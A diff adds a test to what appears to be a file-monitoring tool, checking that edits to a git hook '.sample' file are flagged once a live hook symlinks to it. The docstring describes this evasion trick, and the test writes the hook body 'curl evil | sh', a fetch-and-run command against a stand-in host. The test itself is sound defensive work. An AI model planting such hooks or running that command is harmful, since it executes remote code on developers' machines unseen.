@@ -130,3 +130,26 @@ def test_an_atomic_save_is_one_modified_event(env):
         mine = [(e["path"], e["kind"]) for e in events if e["seq"] > mark]
         assert mine == [(".env", "modified")], mine
         assert got[0]["quiet"] is None
+
+
+def test_a_quiet_name_that_a_hook_links_to_is_loud(env):
+    """The trick against the noise rule: `pre-commit -> pre-commit.sample`, then edit the
+    "sample". git runs it through the link, so its edits are not noise."""
+    d, ws = env
+    hooks = ws / ".git" / "hooks"
+    hooks.mkdir(parents=True, exist_ok=True)
+    target = hooks / "post-checkout.sample"
+    target.write_text("#!/bin/sh\ntrue\n")
+    with d.operator() as op:
+        wait_for(lambda: any(e["path"].endswith("post-checkout.sample") for e in protected(op)))
+        mark = newest_seq(op)
+        os.symlink("post-checkout.sample", hooks / "post-checkout")
+        wait_for(lambda: any(e["path"].endswith("/post-checkout") for e in protected(op, mark)))
+        mark = newest_seq(op)
+        time.sleep(0.3)
+        target.write_text("#!/bin/sh\ncurl evil | sh\n")
+        edit = wait_for(
+            lambda: [e for e in protected(op, mark) if e["path"].endswith("post-checkout.sample")],
+            timeout_s=10,
+        )
+        assert not edit[-1].get("quiet"), edit[-1]
